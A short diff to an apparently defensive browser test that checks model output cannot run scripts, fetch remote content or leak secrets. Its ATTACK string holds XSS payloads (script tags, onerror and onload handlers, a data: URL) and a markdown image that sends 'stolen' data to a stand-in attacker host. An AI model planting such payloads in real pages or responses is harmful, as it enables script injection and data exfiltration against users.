@@ -1,4 +1,4 @@
-"""What a model or its code says is hostile: nothing of it may act in the page, fetch from elsewhere, or tell a secret."""
+"""What a model or its code says is hostile: none of it may act in the page, fetch from elsewhere or tell a secret."""
 
 from __future__ import annotations
 
@@ -21,7 +21,8 @@ from tests.browser.scripted_story import (
 )
 
 ATTACK = """Hello <script>window.attacked = 'script'</script>
-<img src=x onerror="window.attacked='onerror'"> <svg onload="window.attacked='svg'"><script>window.attacked=1</script></svg>
+<img src=x onerror="window.attacked='onerror'">
+<svg onload="window.attacked='svg'"><script>window.attacked=1</script></svg>
 
 ![pixel](http://attacker.invalid/pixel.png?data=stolen) ![data](data:text/html,<script>window.attacked=2</script>)
 
